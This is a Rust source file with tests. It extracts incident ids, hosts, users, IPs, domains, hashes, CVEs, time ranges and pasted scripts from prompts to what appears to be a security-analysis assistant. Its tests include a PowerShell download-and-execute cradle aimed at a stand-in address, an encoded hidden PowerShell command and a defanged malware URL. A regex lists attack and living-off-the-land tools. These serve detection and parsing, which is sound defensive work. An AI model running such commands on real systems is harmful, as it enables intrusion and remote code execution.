//! Entity extraction from a prompt: incident ids, hosts, users, mailboxes, IP addresses,
//! domains, URLs, file hashes, CVEs, time ranges and pasted scripts or command lines.
//!
//! Extraction is pattern based and never fails: whatever is not recognised is simply not
//! extracted. Pasted scripts are cut out first so that the indicators inside them (which are
//! data, never instructions) do not turn into the prompt's own filters.
use bulwark_model::{Entity, EntityKind};
use regex::Regex;
use serde::Serialize;
use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::OnceLock;

/// Longest prompt read; the rest is ignored so hostile input cannot cost unbounded time.
pub const MAX_PROMPT_BYTES: usize = 256 * 1024;

/// Top-level domains recognised for bare domain names (a closed list, so that `alice.smith`
/// or `backup.7z` are not taken for domains).
const TLDS: &[&str] = &[
    "com", "net", "org", "io", "xyz", "me", "ru", "cn", "info", "biz", "co", "uk", "de", "fr",
    "nl", "top", "online", "site", "club", "app", "dev", "cloud", "tk", "su", "pw", "cc", "ws",
    "us", "eu", "gov", "edu", "mil", "int", "onion", "live", "shop", "store", "tech", "ly", "in",
    "jp", "kr", "br", "ir", "kp", "ua", "pl", "it", "es", "ch", "se", "no", "fi", "dk", "be", "at",
    "au", "ca", "local", "lan", "corp", "internal",
];

/// File extensions that make a dotted token a file name rather than a domain.
const FILE_EXTENSIONS: &[&str] = &[
    "exe", "dll", "ps1", "bat", "cmd", "vbs", "js", "hta", "docm", "doc", "docx", "xls", "xlsm",
    "xlsx", "zip", "7z", "rar", "iso", "lnk", "msi", "scr", "sys", "dmp", "txt", "pdf", "py", "sh",
    "jar",
];

/// A time range named in a prompt.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum TimeRange {
    /// The last `ns` nanoseconds up to now ("past week", "last 24 hours").
    Last {
        /// Length in nanoseconds.
        ns: i64,
        /// KQL timespan literal (`7d`, `24h`).
        span: String,
    },
    /// The previous calendar day (UTC).
    Yesterday,
    /// The current calendar day (UTC).
    Today,
    /// Since the start of the current week (Sunday, as Kusto's `startofweek`).
    ThisWeek,
    /// Between two instants (ns since the epoch), end exclusive.
    Between {
        /// Start (inclusive).
        start_ns: i64,
        /// End (exclusive).
        end_ns: i64,
    },
    /// From an instant up to now.
    Since {
        /// Start (inclusive).
        start_ns: i64,
    },
}

const NS_PER_SEC: i64 = 1_000_000_000;
const NS_PER_DAY: i64 = 86_400 * NS_PER_SEC;

impl TimeRange {
    /// A KQL predicate restricting `column` to this range.
    pub fn kql_predicate(&self, column: &str) -> String {
        use bulwark_model::time::format_datetime_ns;
        match self {
            TimeRange::Last { span, .. } => format!("{column} > ago({span})"),
            TimeRange::Yesterday => {
                format!("{column} >= startofday(ago(1d)) and {column} < startofday(now())")
            }
            TimeRange::Today => format!("{column} >= startofday(now())"),
            TimeRange::ThisWeek => format!("{column} >= startofweek(now())"),
            TimeRange::Between { start_ns, end_ns } => format!(
                "{column} >= datetime({}) and {column} < datetime({})",
                format_datetime_ns(*start_ns),
                format_datetime_ns(*end_ns)
            ),
            TimeRange::Since { start_ns } => {
                format!("{column} >= datetime({})", format_datetime_ns(*start_ns))
            }
        }
    }

    /// Start and end (ns, end exclusive) of the range given the current time.
    pub fn bounds(&self, now_ns: i64) -> (i64, i64) {
        let day_start = now_ns - now_ns.rem_euclid(NS_PER_DAY);
        match self {
            TimeRange::Last { ns, .. } => (now_ns.saturating_sub(*ns), now_ns),
            TimeRange::Yesterday => (day_start - NS_PER_DAY, day_start),
            TimeRange::Today => (day_start, now_ns),
            TimeRange::ThisWeek => {
                // 1970-01-01 was a Thursday; Kusto weeks start on Sunday.
                let days = day_start.div_euclid(NS_PER_DAY);
                let weekday = (days + 4).rem_euclid(7);
                (day_start - weekday * NS_PER_DAY, now_ns)
            }
            TimeRange::Between { start_ns, end_ns } => (*start_ns, *end_ns),
            TimeRange::Since { start_ns } => (*start_ns, now_ns),
        }
    }

    /// A short human description ("the last 7d", "yesterday").
    pub fn describe(&self) -> String {
        use bulwark_model::time::format_datetime_ns;
        match self {
            TimeRange::Last { span, .. } => format!("the last {span}"),
            TimeRange::Yesterday => "yesterday".into(),
            TimeRange::Today => "today".into(),
            TimeRange::ThisWeek => "this week".into(),
            TimeRange::Between { start_ns, end_ns } => {
                format!("{} to {}", format_datetime_ns(*start_ns), format_datetime_ns(*end_ns))
            }
            TimeRange::Since { start_ns } => format!("since {}", format_datetime_ns(*start_ns)),
        }
    }
}

/// Everything extracted from one prompt.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct Extracted {
    /// Devices, users, mailboxes, IPs, domains, URLs, hashes, files, in order of appearance,
    /// without duplicates.
    pub entities: Vec<Entity>,
    /// Incident numbers or names (`7`, `INC-…`).
    pub incidents: Vec<String>,
    /// CVE ids, upper case.
    pub cves: Vec<String>,
    /// The time range, if one was named.
    pub time_range: Option<TimeRange>,
    /// Pasted scripts or command lines (code blocks, quoted command lines).
    pub scripts: Vec<String>,
    /// The prompt with pasted scripts removed, lower case: what the planner reads.
    pub text: String,
}

impl Extracted {
    /// Values of entities of one kind.
    pub fn values(&self, kind: EntityKind) -> Vec<&str> {
        self.entities.iter().filter(|e| e.kind == kind).map(|e| e.value.as_str()).collect()
    }

    /// Whether any entity of this kind was found.
    pub fn has(&self, kind: EntityKind) -> bool {
        self.entities.iter().any(|e| e.kind == kind)
    }

    fn push(&mut self, kind: EntityKind, value: &str) {
        let value = value.trim_matches(|c: char| ".,;:!?()[]{}<>\"'`".contains(c));
        if value.is_empty() || value.len() > 2048 {
            return;
        }
        if !self.entities.iter().any(|e| e.kind == kind && e.value.eq_ignore_ascii_case(value)) {
            self.entities.push(Entity::new(kind, value));
        }
    }
}

struct Patterns {
    fence: Regex,
    backtick: Regex,
    command: Regex,
    url: Regex,
    email: Regex,
    ipv4: Regex,
    ipv6: Regex,
    hash: Regex,
    cve: Regex,
    incident: Regex,
    incident_name: Regex,
    hash_ref: Regex,
    host: Regex,
    dotted: Regex,
    user_after: Regex,
    last_n: Regex,
    between: Regex,
    since: Regex,
    on_date: Regex,
}

fn patterns() -> Option<&'static Patterns> {
    static P: OnceLock<Option<Patterns>> = OnceLock::new();
    P.get_or_init(|| {
        Some(Patterns {
            fence: Regex::new(r"(?s)```[a-zA-Z0-9_-]*\n?(.*?)```").ok()?,
            backtick: Regex::new(r"`([^`\n]{6,})`").ok()?,
            command: Regex::new(
                r#"(?i)(?:^|[\s:"'])((?:powershell|pwsh|cmd|rundll32|regsvr32|mshta|wscript|cscript|certutil|bitsadmin|wmic|schtasks|rclone|psexec64|psexec|bash|curl|wget)(?:\.exe)?\s+[^\n]{4,})"#,
            )
            .ok()?,
            url: Regex::new(r"(?i)\b(?:https?|hxxps?|ftp)(?::|\[:\])//[^\s<>'`]+").ok()?,
            email: Regex::new(r"(?i)\b[a-z0-9][a-z0-9._%+-]*@[a-z0-9-]+(?:\.[a-z0-9-]+)+\b").ok()?,
            ipv4: Regex::new(r"\b(?:\d{1,3}(?:\.|\[\.\])){3}\d{1,3}\b").ok()?,
            ipv6: Regex::new(r"(?i)(?:^|[\s,;(\[])([0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7})").ok()?,
            hash: Regex::new(r"(?i)\b[0-9a-f]{32,64}\b").ok()?,
            cve: Regex::new(r"(?i)\bcve-\d{4}-\d{4,7}\b").ok()?,
            incident: Regex::new(
                r"(?i)\b(?:incident|case)s?\s*(?:number|no\.?|id|#)?\s*#?\s*(\d{1,9})\b",
            )
            .ok()?,
            incident_name: Regex::new(r"(?i)\bINC-[0-9a-f]{4,32}\b").ok()?,
            hash_ref: Regex::new(r"(?:^|\s)#(\d{1,9})\b").ok()?,
            host: Regex::new(
                r"(?i)\b(?:wks|srv|dc|ws|pc|laptop|desktop|host|vm|sql|web|app|fs|mail|exch)[a-z0-9]*-[a-z0-9-]*[a-z0-9](?:\.[a-z0-9-]+)*\b",
            )
            .ok()?,
            dotted: Regex::new(r"(?i)\b[a-z0-9][a-z0-9_-]*(?:\.[a-z0-9_-]+)+\b").ok()?,
            user_after: Regex::new(
                r"(?i)\b(?:(?:user|account|username|upn|for|by|of|the)\s+)+([a-z][a-z0-9_-]*(?:\.[a-z0-9_-]+)?|adm-[a-z0-9.]+)\b",
            )
            .ok()?,
            last_n: Regex::new(
                r"(?i)\b(?:past|last|previous|prior|recent|within|in the last|over the last|over the past|in the past)\s+(?:(\d{1,4}|a|one|two|three|four|five|six|seven|ten|twelve|fourteen|thirty)\s+)?(minute|min|hour|hr|day|week|month|year)s?\b",
            )
            .ok()?,
            between: Regex::new(
                r"(?i)\bbetween\s+(\d{4}-\d{2}-\d{2}(?:[t ]\d{2}:\d{2}(?::\d{2})?z?)?)\s+(?:and|to|-)\s+(\d{4}-\d{2}-\d{2}(?:[t ]\d{2}:\d{2}(?::\d{2})?z?)?)",
            )
            .ok()?,
            since: Regex::new(r"(?i)\b(?:since|after|from)\s+(\d{4}-\d{2}-\d{2})\b").ok()?,
            on_date: Regex::new(r"(?i)\bon\s+(\d{4}-\d{2}-\d{2})\b").ok()?,
        })
    })
    .as_ref()
}

/// English words that are never bare user names ("the account was used", "user signed in").
const COMMON_WORDS: &[&str] = &[
    "was",
    "is",
    "were",
    "are",
    "used",
    "using",
    "signed",
    "logged",
    "that",
    "with",
    "has",
    "had",
    "named",
    "called",
    "who",
    "which",
    "whose",
    "did",
    "does",
    "do",
    "can",
    "should",
    "lateral",
    "name",
    "names",
    "and",
    "or",
    "in",
    "on",
    "to",
    "from",
    "activity",
    "accounts",
    "opened",
    "clicked",
    "ran",
    "created",
    "received",
    "downloaded",
    "visited",
    "executed",
    "launched",
    "started",
    "accessed",
    "fell",
    "got",
    "logs",
    "sessions",
    "account",
];

/// Words that follow "for"/"by"/"user" but are not user names.
const NOT_USERS: &[&str] = &[
    "the",
    "a",
    "an",
    "all",
    "any",
    "each",
    "every",
    "this",
    "that",
    "these",
    "those",
    "it",
    "them",
    "me",
    "us",
    "user",
    "users",
    "account",
    "accounts",
    "device",
    "devices",
    "host",
    "hosts",
    "ip",
    "ips",
    "count",
    "day",
    "hour",
    "week",
    "month",
    "time",
    "process",
    "file",
    "files",
    "more",
    "less",
    "most",
    "least",
    "which",
    "what",
    "who",
    "how",
    "incident",
    "incidents",
    "alert",
    "alerts",
    "sign",
    "signin",
    "signins",
    "logon",
    "logons",
    "network",
    "email",
    "emails",
    "example",
    "instance",
    "now",
    "today",
    "yesterday",
    "past",
    "last",
    "recent",
    "since",
    "severity",
    "country",
    "application",
    "app",
    "sender",
    "recipient",
    "domain",
    "command",
    "name",
    "type",
    "status",
    "result",
    "remote",
    "source",
    "destination",
    "port",
    "action",
    "operation",
    "category",
    "title",
    "number",
    "distinct",
    "unique",
    "top",
    "failed",
    "successful",
    "evidence",
    "admin",
    "admins",
    "indicators",
    "iocs",
    "ioc",
    "suspicious",
    "malicious",
    "powershell",
    "parent",
    "processes",
    "connections",
    "investigation",
    "summary",
    "response",
    "impact",
    "help",
    "kql",
    "query",
    "queries",
];

fn word_number(w: &str) -> Option<i64> {
    Some(match w {
        "a" | "one" => 1,
        "two" => 2,
        "three" => 3,
        "four" => 4,
        "five" => 5,
        "six" => 6,
        "seven" => 7,
        "ten" => 10,
        "twelve" => 12,
        "fourteen" => 14,
        "thirty" => 30,
        n => n.parse().ok()?,
    })
}

/// Parses `2024-01-05`, `2024-01-05T10:00`, `2024-01-05 10:00:00Z` into ns.
fn parse_date(text: &str) -> Option<i64> {
    let t = text.trim().replace(' ', "T");
    let t = t.trim_end_matches(['z', 'Z']);
    let full = match t.len() {
        10 => format!("{t}T00:00:00Z"),
        16 => format!("{t}:00Z"),
        _ => format!("{t}Z"),
    };
    bulwark_model::time::parse_datetime_ns(&full.to_uppercase())
}

/// Finds the time range named in `text` (lower case), if any.
pub fn time_range(text: &str) -> Option<TimeRange> {
    let p = patterns()?;
    if let Some(c) = p.between.captures(text) {
        let start = parse_date(c.get(1)?.as_str())?;
        let end_text = c.get(2)?.as_str();
        let mut end = parse_date(end_text)?;
        // A date without a time means the whole day.
        if end_text.len() == 10 {
            end += NS_PER_DAY;
        }
        if end > start {
            return Some(TimeRange::Between { start_ns: start, end_ns: end });
        }
    }
    if let Some(c) = p.on_date.captures(text) {
        let start = parse_date(c.get(1)?.as_str())?;
        return Some(TimeRange::Between { start_ns: start, end_ns: start + NS_PER_DAY });
    }
    if let Some(c) = p.since.captures(text) {
        let start = parse_date(c.get(1)?.as_str())?;
        return Some(TimeRange::Since { start_ns: start });
    }
    if text.contains("yesterday") {
        return Some(TimeRange::Yesterday);
    }
    if text.contains("today") || text.contains("so far this day") {
        return Some(TimeRange::Today);
    }
    if text.contains("this week") {
        return Some(TimeRange::ThisWeek);
    }
    if let Some(c) = p.last_n.captures(text) {
        let n = c.get(1).and_then(|m| word_number(&m.as_str().to_lowercase())).unwrap_or(1);
        let n = n.clamp(1, 10_000);
        let unit = c.get(2)?.as_str().to_lowercase();
        let (mult, suffix, secs) = match unit.as_str() {
            "minute" | "min" => (1, "m", 60),
            "hour" | "hr" => (1, "h", 3_600),
            "day" => (1, "d", 86_400),
            "week" => (7, "d", 86_400),
            "month" => (30, "d", 86_400),
            _ => (365, "d", 86_400),
        };
        let count = n * mult;
        return Some(TimeRange::Last {
            ns: count * secs * NS_PER_SEC,
            span: format!("{count}{suffix}"),
        });
    }
    None
}

fn refang(s: &str) -> String {
    s.replace("[.]", ".")
        .replace("(.)", ".")
        .replace("[:]", ":")
        .replace("hxxp", "http")
        .replace("HXXP", "HTTP")
}

fn is_tld(label: &str) -> bool {
    TLDS.contains(&label.to_ascii_lowercase().as_str())
}

fn is_file_name(token: &str) -> bool {
    token
        .rsplit('.')
        .next()
        .is_some_and(|ext| FILE_EXTENSIONS.contains(&ext.to_ascii_lowercase().as_str()))
}

/// Cuts pasted scripts out of the prompt: fenced code blocks, back-quoted snippets and
/// command lines starting with a known interpreter. Returns the scripts and the rest.
fn cut_scripts(prompt: &str, p: &Patterns) -> (Vec<String>, String) {
    let mut scripts = Vec::new();
    let mut rest = prompt.to_string();
    for c in p.fence.captures_iter(prompt) {
        if let Some(body) = c.get(1) {
            let body = body.as_str().trim();
            if !body.is_empty() {
                scripts.push(body.to_string());
            }
        }
    }
    rest = p.fence.replace_all(&rest, " ").into_owned();
    let snapshot = rest.clone();
    for c in p.backtick.captures_iter(&snapshot) {
        if let Some(body) = c.get(1) {
            let body = body.as_str().trim();
            if looks_like_code(body) {
                scripts.push(body.to_string());
                rest = rest.replace(&format!("`{}`", c.get(1).map_or("", |m| m.as_str())), " ");
            }
        }
    }
    let snapshot = rest.clone();
    if let Some(c) = p.command.captures(&snapshot)
        && let Some(m) = c.get(1)
    {
        let text = m.as_str().trim().trim_end_matches(['"', '\'']);
        // "powershell processes on wks-1" is a question, not a command line: require a switch,
        // a path or an operator.
        if looks_like_code(text) {
            scripts.push(text.to_string());
            rest = rest.replace(m.as_str(), " ");
        }
    }
    (scripts, rest)
}

fn looks_like_code(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let switches = text
        .split_whitespace()
        .any(|w| (w.starts_with('-') || w.starts_with('/')) && w.len() > 1 && w.len() < 40);
    switches
        || text.contains('\\')
        || text.contains('|')
        || text.contains('$')
        || text.contains("()")
        || text.contains('(') && text.contains(')') && text.contains('.')
        || lower.contains("iex")
        || lower.contains(".exe ")
        || text.contains(';')
}

/// Extracts entities, incident ids, CVEs, the time range and pasted scripts from a prompt.
pub fn extract(prompt: &str) -> Extracted {
    let prompt = cut(prompt, MAX_PROMPT_BYTES);
    let mut out = Extracted::default();
    let Some(p) = patterns() else {
        out.text = prompt.to_lowercase();
        return out;
    };
    let (scripts, rest) = cut_scripts(prompt, p);
    out.scripts = scripts;
    let refanged = refang(&rest);
    let text = refanged.as_str();
    out.text = rest.to_lowercase();

    // Spans already claimed by a more specific pattern.
    let mut claimed: Vec<(usize, usize)> = Vec::new();
    let free = |claimed: &[(usize, usize)], s: usize, e: usize| {
        !claimed.iter().any(|&(a, b)| s < b && a < e)
    };

    for m in p.url.find_iter(text) {
        let url = m.as_str().trim_end_matches(['.', ',', ')', ';', '"', '\'']);
        out.push(EntityKind::Url, url);
        claimed.push((m.start(), m.end()));
    }
    for m in p.email.find_iter(text) {
        if free(&claimed, m.start(), m.end()) {
            out.push(EntityKind::User, m.as_str());
            claimed.push((m.start(), m.end()));
        }
    }
    for m in p.cve.find_iter(text) {
        let id = m.as_str().to_uppercase();
        if !out.cves.contains(&id) {
            out.cves.push(id);
        }
        claimed.push((m.start(), m.end()));
    }
    for m in p.incident_name.find_iter(text) {
        out.incidents.push(m.as_str().to_uppercase());
        claimed.push((m.start(), m.end()));
    }
    for c in p.incident.captures_iter(text) {
        if let Some(n) = c.get(1)
            && !out.incidents.iter().any(|i| i == n.as_str())
        {
            out.incidents.push(n.as_str().to_string());
            claimed.push((n.start(), n.end()));
        }
    }
    for c in p.hash_ref.captures_iter(text) {
        if let Some(n) = c.get(1)
            && !out.incidents.iter().any(|i| i == n.as_str())
        {
            out.incidents.push(n.as_str().to_string());
            claimed.push((n.start(), n.end()));
        }
    }
    for m in p.hash.find_iter(text) {
        let len = m.as_str().len();
        if matches!(len, 32 | 40 | 64) && free(&claimed, m.start(), m.end()) {
            out.push(EntityKind::FileHash, &m.as_str().to_lowercase());
            claimed.push((m.start(), m.end()));
        }
    }
    for m in p.ipv4.find_iter(text) {
        let ip = m.as_str().replace("[.]", ".");
        if ip.parse::<Ipv4Addr>().is_ok() && free(&claimed, m.start(), m.end()) {
            out.push(EntityKind::Ip, &ip);
            claimed.push((m.start(), m.end()));
        }
    }
    for c in p.ipv6.captures_iter(text) {
        if let Some(m) = c.get(1)
            && m.as_str().matches(':').count() >= 2
            && m.as_str().parse::<Ipv6Addr>().is_ok()
            && free(&claimed, m.start(), m.end())
        {
            out.push(EntityKind::Ip, &m.as_str().to_lowercase());
            claimed.push((m.start(), m.end()));
        }
    }
    for m in p.host.find_iter(text) {
        if free(&claimed, m.start(), m.end()) && !is_file_name(m.as_str()) {
            out.push(EntityKind::Device, &m.as_str().to_lowercase());
            claimed.push((m.start(), m.end()));
        }
    }
    for m in p.dotted.find_iter(text) {
        if !free(&claimed, m.start(), m.end()) {
            continue;
        }
        let token = m.as_str();
        let labels: Vec<&str> = token.split('.').collect();
        let last = labels.last().copied().unwrap_or("");
        if is_file_name(token) {
            out.push(EntityKind::File, token);
        } else if labels.len() >= 2
            && is_tld(last)
            && labels.iter().all(|l| !l.is_empty())
            && !last.chars().all(|c| c.is_ascii_digit())
        {
            out.push(EntityKind::Domain, &token.to_lowercase());
        } else if labels.len() == 2
            && labels.iter().all(|l| l.len() >= 2 && l.chars().all(|c| c.is_ascii_alphabetic()))
        {
            // first.last: the tenant's account naming.
            out.push(EntityKind::User, &token.to_lowercase());
        } else {
            continue;
        }
        claimed.push((m.start(), m.end()));
    }
    for c in p.user_after.captures_iter(text) {
        let Some(m) = c.get(1) else { continue };
        let name = m.as_str().to_lowercase();
        if free(&claimed, m.start(), m.end())
            && !NOT_USERS.contains(&name.as_str())
            && !name.chars().all(|c| c.is_ascii_digit())
            && (name.contains('.') || name.starts_with("adm-") || is_user_context(text, c.get(0)))
        {
            out.push(EntityKind::User, &name);
            claimed.push((m.start(), m.end()));
        }
    }
    out.time_range = time_range(&out.text);
    out
}

/// "for alice" is a user only when the preceding word says so ("user", "account") or the
/// name is not a common word; "by" and "of" need an explicit user word.
fn is_user_context(text: &str, whole: Option<regex::Match<'_>>) -> bool {
    let Some(whole) = whole else { return false };
    let words: Vec<&str> = whole.as_str().split_whitespace().collect();
    let lead =
        words.len().checked_sub(2).and_then(|i| words.get(i)).unwrap_or(&"").to_ascii_lowercase();
    let name = words.last().copied().unwrap_or("").to_ascii_lowercase();
    if matches!(lead.as_str(), "user" | "username" | "upn") {
        return !COMMON_WORDS.contains(&name.as_str());
    }
    if lead == "for" {
        // "sign-ins for alice": a short, lower-case given name.
        let name = words.last().copied().unwrap_or("");
        let before = &text[..whole.start()].to_ascii_lowercase();
        let about_people = ["sign", "logon", "login", "user", "account", "mailbox", "email"]
            .iter()
            .any(|w| before.contains(w));
        return about_people
            && name.len() >= 3
            && name.chars().all(|c| c.is_ascii_alphabetic())
            && !COMMON_WORDS.contains(&name.to_ascii_lowercase().as_str());
    }
    false
}

/// `text` cut to at most `max` bytes on a character boundary.
pub fn cut(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while end > 0 && !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn values(e: &Extracted, kind: EntityKind) -> Vec<String> {
        e.values(kind).into_iter().map(String::from).collect()
    }

    #[test]
    fn incidents_by_word_and_hash() {
        let e = extract("Summarize incident 7 and compare with #12");
        assert_eq!(e.incidents, vec!["7", "12"]);
        let e = extract("what happened in incident #3?");
        assert_eq!(e.incidents, vec!["3"]);
        let e = extract("tell me about INC-00ab12cd34ef5678");
        assert_eq!(e.incidents, vec!["INC-00AB12CD34EF5678"]);
    }

    #[test]
    fn hosts_short_and_fqdn() {
        let e = extract("what ran on wks-fin-001 and srv-fs01.contoso.com yesterday?");
        assert_eq!(values(&e, EntityKind::Device), vec!["wks-fin-001", "srv-fs01.contoso.com"]);
        assert_eq!(e.time_range, Some(TimeRange::Yesterday));
        assert!(!e.has(EntityKind::Domain));
    }

    #[test]
    fn users_upn_dotted_and_after_keyword() {
        let e = extract("sign-ins for alice.smith@contoso.com and bob.jones");
        assert_eq!(values(&e, EntityKind::User), vec!["alice.smith@contoso.com", "bob.jones"]);
        let e = extract("failed sign-ins for alice in the last 24 hours");
        assert_eq!(values(&e, EntityKind::User), vec!["alice"]);
        assert_eq!(
            e.time_range,
            Some(TimeRange::Last { ns: 24 * 3_600 * NS_PER_SEC, span: "24h".into() })
        );
        let e = extract("show the account adm-john.doe");
        assert_eq!(values(&e, EntityKind::User), vec!["adm-john.doe"]);
        let e = extract("psexec executions by account adm-john.doe");
        assert_eq!(values(&e, EntityKind::User), vec!["adm-john.doe"]);
        let e = extract("processes started by user frank");
        assert_eq!(values(&e, EntityKind::User), vec!["frank"]);
        let e = extract("which admin account was used for lateral movement?");
        assert!(!e.has(EntityKind::User), "{e:?}");
        let e = extract("which sprayed account signed in successfully?");
        assert!(!e.has(EntityKind::User), "{e:?}");
        // Common words after "for" are not users.
        let e = extract("look for suspicious processes for the past week");
        assert!(!e.has(EntityKind::User), "{e:?}");
    }

    #[test]
    fn addresses_v4_v6_and_defanged() {
        let e = extract("connections to 185.220.101.4, 2001:db8::1 or 10[.]0[.]0[.]5");
        assert_eq!(values(&e, EntityKind::Ip), vec!["185.220.101.4", "10.0.0.5", "2001:db8::1"]);
        let e = extract("is 999.1.1.1 an address?");
        assert!(!e.has(EntityKind::Ip));
    }

    #[test]
    fn domains_urls_files() {
        let e = extract(
            "did anyone visit hxxp://evil-cdn[.]net/s/stage2.ps1 or free-pdf-convert.xyz and run updater.exe?",
        );
        assert_eq!(values(&e, EntityKind::Url), vec!["http://evil-cdn.net/s/stage2.ps1"]);
        assert_eq!(values(&e, EntityKind::Domain), vec!["free-pdf-convert.xyz"]);
        assert_eq!(values(&e, EntityKind::File), vec!["updater.exe"]);
    }

    #[test]
    fn hashes_by_length() {
        let md5 = "d41d8cd98f00b204e9800998ecf8427e";
        let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
        let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        let e = extract(&format!("hunt for {md5} {sha1} and {}", sha256.to_uppercase()));
        assert_eq!(values(&e, EntityKind::FileHash), vec![md5, sha1, sha256]);
        let e = extract("hash 0123456789abcdef0123 is too short");
        assert!(!e.has(EntityKind::FileHash));
    }

    #[test]
    fn cves() {
        let e = extract("which devices are exposed to cve-2024-3400 or CVE-2023-23397?");
        assert_eq!(e.cves, vec!["CVE-2024-3400", "CVE-2023-23397"]);
    }

    #[test]
    fn time_ranges() {
        assert!(
            matches!(time_range("past week"), Some(TimeRange::Last { ref span, .. }) if span == "7d")
        );
        assert!(
            matches!(time_range("over the last 3 days"), Some(TimeRange::Last { ref span, .. }) if span == "3d")
        );
        assert!(
            matches!(time_range("in the past hour"), Some(TimeRange::Last { ref span, .. }) if span == "1h")
        );
        assert!(
            matches!(time_range("last month"), Some(TimeRange::Last { ref span, .. }) if span == "30d")
        );
        assert_eq!(time_range("today"), Some(TimeRange::Today));
        assert_eq!(time_range("so far this week"), Some(TimeRange::ThisWeek));
        let r = time_range("between 2024-01-01 and 2024-01-05");
        let start = bulwark_model::time::parse_datetime_ns("2024-01-01T00:00:00Z");
        let end = bulwark_model::time::parse_datetime_ns("2024-01-06T00:00:00Z");
        assert_eq!(
            r,
            Some(TimeRange::Between { start_ns: start.unwrap_or(0), end_ns: end.unwrap_or(0) })
        );
        assert_eq!(time_range("between 2024-01-05 and 2024-01-01"), None);
        assert_eq!(time_range("show all processes"), None);
    }

    #[test]
    fn time_bounds_and_predicates() {
        let now = bulwark_model::time::parse_datetime_ns("2024-03-14T10:00:00Z").unwrap_or(0);
        let (s, e) = TimeRange::Yesterday.bounds(now);
        assert_eq!(bulwark_model::time::format_datetime_ns(s), "2024-03-13T00:00:00Z");
        assert_eq!(bulwark_model::time::format_datetime_ns(e), "2024-03-14T00:00:00Z");
        // 2024-03-14 was a Thursday; the week began on Sunday the 10th.
        let (s, _) = TimeRange::ThisWeek.bounds(now);
        assert_eq!(bulwark_model::time::format_datetime_ns(s), "2024-03-10T00:00:00Z");
        assert_eq!(
            TimeRange::Last { ns: 0, span: "7d".into() }.kql_predicate("TimeGenerated"),
            "TimeGenerated > ago(7d)"
        );
    }

    #[test]
    fn scripts_are_cut_out_and_their_indicators_ignored() {
        let e = extract(
            "analyze this: ```powershell\nIEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a')\n```",
        );
        assert_eq!(e.scripts.len(), 1);
        assert!(e.scripts[0].starts_with("IEX"));
        assert!(!e.has(EntityKind::Ip), "indicators inside the script are data: {e:?}");
        let e = extract("what does powershell.exe -nop -w hidden -enc SQBFAFgA do?");
        assert_eq!(e.scripts, vec!["powershell.exe -nop -w hidden -enc SQBFAFgA do?"]);
        let e = extract("explain `cmd.exe /c whoami /all`");
        assert_eq!(e.scripts, vec!["cmd.exe /c whoami /all"]);
        // A question about PowerShell is not a pasted script.
        let e = extract("show powershell processes on wks-fin-001");
        assert!(e.scripts.is_empty(), "{e:?}");
    }

    #[test]
    fn hostile_input_does_not_panic() {
        let big = "a".repeat(MAX_PROMPT_BYTES + 10);
        let _ = extract(&big);
        let _ = extract("é".repeat(200_000).as_str());
        let _ = extract("```");
        let _ = extract("between 9999-99-99 and 0000-00-00");
        let _ = extract("incident 99999999999999999999");
    }
}
